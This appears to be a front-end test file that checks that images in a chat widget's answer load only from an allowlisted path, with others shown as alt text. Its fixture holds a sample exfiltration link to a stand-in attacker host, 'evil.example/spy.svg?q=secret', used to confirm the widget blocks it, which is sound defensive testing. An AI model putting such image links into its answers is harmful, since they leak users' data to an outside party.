import { expect, waitUntil } from '@open-wc/testing';
import { answer } from '../test-support/scripts.js';
import { mountWidget, removeWidgets, type TestWidget } from '../test-support/widget.js';

const place = `${location.origin}/pictures/guides/`;
const text = `![Sizes](/pictures/guides/sizes.svg) ![Team](/pictures/team.svg) ![Spy](https://evil.example/spy.svg?q=secret)`;

afterEach(removeWidgets);

async function ask(attributes: Record<string, string>): Promise<TestWidget> {
  const widget = mountWidget([answer(text)], attributes);
  await widget.open();
  await widget.ask('How is it cut?');
  await waitUntil(() => widget.find('.prose:not(.prose--plain)')?.textContent?.includes('Spy'));
  return widget;
}

describe('a picture in the text of an answer', () => {
  it('is shown from a place that the page lists; of others, what they show is said', async () => {
    const widget = await ask({ 'text-images': place });
    const pictures = widget.all<HTMLImageElement>('.prose img');
    expect(pictures.map(({ src, alt }) => [src, alt])).to.deep.equal([[`${place}sizes.svg`, 'Sizes']]);
    expect(widget.find('.prose')?.textContent).to.contain('Team').and.to.contain('Spy');
  });

  it('is words where the page lists no place', async () => {
    const widget = await ask({});
    expect(widget.find('.prose img')).to.equal(null);
    expect(widget.find('.prose')?.textContent).to.contain('Sizes');
  });
});
